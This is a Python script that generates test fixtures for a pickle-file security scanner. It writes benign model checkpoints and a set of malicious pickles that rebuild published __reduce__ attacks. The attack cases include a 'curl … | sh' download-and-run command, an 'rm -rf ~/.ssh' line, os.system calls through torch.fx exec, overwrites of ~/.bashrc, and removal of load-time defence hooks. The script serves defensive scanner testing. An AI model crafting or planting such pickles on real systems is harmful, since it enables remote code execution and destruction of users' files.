#!/usr/bin/env python3
"""Regenerate the pickle-semantics fixtures under ``tests/assets/pickles/``.

Why this exists: the pickle ranking (``mlvet.policy.semantics``) must give nothing at medium or above on
files that ordinary tools write, and must still flag the attacks that abuse the same machinery. Every
benign file here is written by the real library's own save function (a tiny ``transformers.Trainer`` run,
``torch.save`` of a full model in zip and legacy format, a ``torch.distributed.checkpoint`` folder, dill
and cloudpickle data pickles, statsmodels results), so the tests pin what users really have on disk.
The attack files rebuild the published techniques with ``__reduce__`` (``pexpect.run``, hook removal,
``reduce_graph_module`` with code, writable ``numpy.memmap`` ...). Nothing here loads a file.

Run (versions in ``pickles/MANIFEST.json``)::

    python3 -m venv --system-site-packages /work/venvs/pickle-sem
    /work/venvs/pickle-sem/bin/pip install statsmodels torch==2.13.0
    /work/venvs/pickle-sem/bin/python tests/assets/make_pickles.py
"""

from __future__ import annotations

import json
import operator
import os
import pickle
import shutil
import sys
import tempfile
import warnings
from pathlib import Path
from typing import Any

warnings.filterwarnings("ignore")
os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
os.environ.setdefault("WANDB_DISABLED", "true")

import numpy as np  # noqa: E402
import torch  # noqa: E402, TID251 - fixture generator, never part of the scanner
import torch.nn.functional as F  # noqa: E402, TID251
from torch import nn  # noqa: E402, TID251

OUT = Path(__file__).resolve().parent / "pickles"
BENIGN = OUT / "benign"
ATTACK = OUT / "attack"


# ---- user classes (they pickle as __main__.X, like a training script's own model) ---------------------


class TinyNet(nn.Module):
    """A user model: Linear layers, a functional activation stored as an attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.fc1 = nn.Linear(4, 8)
        self.act = F.relu
        self.fc2 = nn.Linear(8, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc2(self.act(self.fc1(x)))  # type: ignore[no-any-return]


class Config:
    """A plain user class saved beside the model."""

    def __init__(self) -> None:
        self.lr = 0.01
        self.name = "tiny"


# ---- attacks (published techniques rebuilt with __reduce__) ---------------------------------------------


class _Reduce:
    """Pickles as ``func(*args)``: how every published pickle attack is written."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __call__(self, *args: Any) -> None:  # a call's result may be called again (gadget chains)
        raise RuntimeError("a stand-in is never called")

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


class _Global:
    """A stand-in for a callable this script must not import: written as the global ``module.name``."""

    def __init__(self, module: str, name: str) -> None:
        self.module = module
        self.name = name

    def __call__(self, *args: Any) -> None:  # pickle's save_reduce only checks callability
        raise RuntimeError("a stand-in is never called")


class _RefPickler(pickle._Pickler):  # type: ignore[name-defined,misc]
    """The stdlib's Python pickler, taught to write a ``_Global`` as a STACK_GLOBAL without importing it."""

    dispatch = dict(pickle._Pickler.dispatch)  # type: ignore[attr-defined]

    def save_ref(self, obj: _Global) -> None:
        self.save(obj.module)
        self.save(obj.name)
        self.write(pickle.STACK_GLOBAL)
        self.memoize(obj)

    dispatch[_Global] = save_ref


def _dumps(obj: Any) -> bytes:
    import io

    buf = io.BytesIO()
    _RefPickler(buf, protocol=4).dump(obj)
    return buf.getvalue()


# ---- writers --------------------------------------------------------------------------------------------


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def make_trainer(out: Path) -> None:
    """A real two-step ``transformers.Trainer`` run on a tiny config model; keep the checkpoint pickles."""
    from transformers import BertConfig, BertForSequenceClassification, Trainer, TrainingArguments

    torch.manual_seed(0)
    cfg = BertConfig(vocab_size=32, hidden_size=8, num_hidden_layers=1, num_attention_heads=2,
                     intermediate_size=8, max_position_embeddings=16, num_labels=2)
    model = BertForSequenceClassification(cfg)

    class DS(torch.utils.data.Dataset):  # type: ignore[type-arg]
        def __len__(self) -> int:
            return 4

        def __getitem__(self, i: int) -> dict[str, torch.Tensor]:
            return {"input_ids": torch.tensor([1, 2, 3, 4]), "labels": torch.tensor(i % 2)}

    with tempfile.TemporaryDirectory() as tmp:
        args = TrainingArguments(output_dir=tmp, max_steps=2, save_steps=2, per_device_train_batch_size=2,
                                 report_to=[], use_cpu=True, logging_steps=1)
        Trainer(model=model, args=args, train_dataset=DS()).train()
        ckpt = Path(tmp) / "checkpoint-2"
        for name in ("training_args.bin", "optimizer.pt", "scheduler.pt", "rng_state.pth"):
            if (ckpt / name).exists():
                _write(out / "trainer" / name, (ckpt / name).read_bytes())


def make_full_models(out: Path) -> None:
    """``torch.save(model)`` of user classes, a dynamically quantized model, in zip and legacy format."""
    torch.manual_seed(0)
    model = TinyNet()
    quant = torch.ao.quantization.quantize_dynamic(TinyNet(), {nn.Linear}, dtype=torch.qint8)
    for fmt, zipped in (("zip", True), ("legacy", False)):
        for name, obj in (("tinynet", model), ("quantized", quant), ("with_config", {"model": model,
                                                                                     "cfg": Config()})):
            path = out / "torch_full" / f"{name}_{fmt}.pt"
            path.parent.mkdir(parents=True, exist_ok=True)
            torch.save(obj, path, _use_new_zipfile_serialization=zipped)


def make_dcp(out: Path) -> None:
    """A single-process ``torch.distributed.checkpoint`` folder (no process group needed in torch 2.x)."""
    import torch.distributed.checkpoint as dcp  # noqa: TID251

    torch.manual_seed(0)
    state = {"model": TinyNet().state_dict()}
    target = out / "dcp"
    shutil.rmtree(target, ignore_errors=True)
    dcp.save(state, checkpoint_id=str(target))


def make_dill_cloudpickle(out: Path) -> None:
    import cloudpickle  # noqa: TID251 - writes the fixture, loads nothing
    import dill  # noqa: TID251 - writes the fixture, loads nothing

    data = {"weights": np.arange(6, dtype=np.float32).reshape(2, 3), "ids": np.array([1, 2, 3]),
            "name": "plain", "nested": [np.zeros(2), {"k": np.ones(1, dtype=np.int8)}]}
    _write(out / "dill" / "arrays.pkl", dill.dumps(data))
    _write(out / "dill" / "arrays_byref.pkl", dill.dumps(data, byref=True))
    _write(out / "cloudpickle" / "arrays.pkl", cloudpickle.dumps(data))
    _write(out / "cloudpickle" / "plain.pkl", cloudpickle.dumps({"a": [1, 2.5, "x"], "b": (None, True)}))


def make_statsmodels(out: Path) -> None:
    import statsmodels.api as sm

    rng = np.random.default_rng(0)
    x = sm.add_constant(rng.normal(size=(20, 2)))
    y = x @ np.array([1.0, 2.0, -1.0]) + rng.normal(size=20) * 0.1
    target = out / "statsmodels"
    target.mkdir(parents=True, exist_ok=True)
    sm.OLS(y, x).fit().save(str(target / "ols.pickle"), remove_data=True)
    series = np.cumsum(rng.normal(size=30))
    res = sm.tsa.SARIMAX(series, order=(1, 0, 0)).fit(disp=False, maxiter=5)
    # Kept whole: the Cython state-space objects (dStatespace, dKalmanFilter ...) are only in full saves.
    res.save(str(target / "sarimax.pickle"))


def make_operator(out: Path) -> None:
    _write(out / "operator" / "getitem.pkl", pickle.dumps(_Reduce(operator.getitem, {"a": 1}, "a"), protocol=4))


def make_attacks(out: Path) -> None:
    """Rebuilt published techniques; each must be high or critical."""

    ref = _Global

    cases: dict[str, Any] = {
        # pexpect.run spawns a process through a pty: a non-ML callable given a shell command.
        "pexpect_run.pkl": _Reduce(ref("pexpect", "run"), "curl -s http://203.0.113.7/x | sh"),
        # A third-party package never seen in ML files, called with a command line.
        "thirdparty_cmd.pkl": _Reduce(ref("invoke", "run"), "rm -rf ~/.ssh; wget http://203.0.113.7/a"),
        # Switching off a load-time defence before the real payload.
        "fickling_remove_hook.pkl": _Reduce(ref("fickling.hook", "remove_hook")),
        "mlvet_guard_uninstall.pkl": _Reduce(ref("mlvet.guard", "uninstall")),
        # torch.fx's reducer runs the pickled Python source through exec().
        "fx_reduce_graph_module.pkl": _Reduce(
            ref("torch.fx.graph_module", "reduce_graph_module"),
            {"_code": "import os\ndef forward(self):\n    os.system('id')\n"}, "import os",
        ),
        # Writable memmaps create or truncate any path.
        "memmap_write.pkl": _Reduce(ref("numpy", "memmap"), "/home/user/.bashrc", np.uint8, "w+", 0, (16,)),
        "fortranfile_write.pkl": _Reduce(ref("scipy.io", "FortranFile"), "/home/user/.profile", "w"),
        # NumPy 2's private spelling of numpy.load (loads a second pickle).
        "npyio_impl_load.pkl": _Reduce(ref("numpy.lib._npyio_impl", "load"), "/tmp/second.npy", None, True),
        # dill's array helper handed something other than a numpy reconstructor.
        "dill_create_array_os.pkl": _Reduce(ref("dill._dill", "_create_array"), ref("os", "system"),
                                            ("id",), None, {}),
        # operator gadgets that reach code: methodcaller('system', 'id') applied to the os module.
        "operator_methodcaller.pkl": _Reduce(_Reduce(ref("operator", "methodcaller"), "system", "id"),
                                             ref("os", "path")),
    }
    for name, obj in cases.items():
        _write(out / name, _dumps(obj))
    # A benign counterpart: a read-only memmap stays low.
    _write(BENIGN / "numpy" / "memmap_readonly.pkl", _dumps(_Reduce(ref("numpy", "memmap"), "data.bin", np.uint8,
                                                                    "r", 0, (16,))))


def main() -> None:
    shutil.rmtree(OUT, ignore_errors=True)
    make_trainer(BENIGN)
    make_full_models(BENIGN)
    make_dcp(BENIGN)
    make_dill_cloudpickle(BENIGN)
    make_statsmodels(BENIGN)
    make_operator(BENIGN)
    make_attacks(ATTACK)
    import cloudpickle  # noqa: TID251 - writes the fixture, loads nothing
    import dill  # noqa: TID251 - writes the fixture, loads nothing
    import statsmodels
    import transformers

    versions = {"python": sys.version.split()[0], "torch": torch.__version__, "numpy": np.__version__,
                "transformers": transformers.__version__, "dill": dill.__version__,
                "cloudpickle": cloudpickle.__version__, "statsmodels": statsmodels.__version__}
    files = sorted(str(p.relative_to(OUT)) for p in OUT.rglob("*") if p.is_file())
    (OUT / "MANIFEST.json").write_text(json.dumps({"generator": versions, "files": files}, indent=1) + "\n")
    print(f"wrote {len(files)} files under {OUT}")


if __name__ == "__main__":
    main()
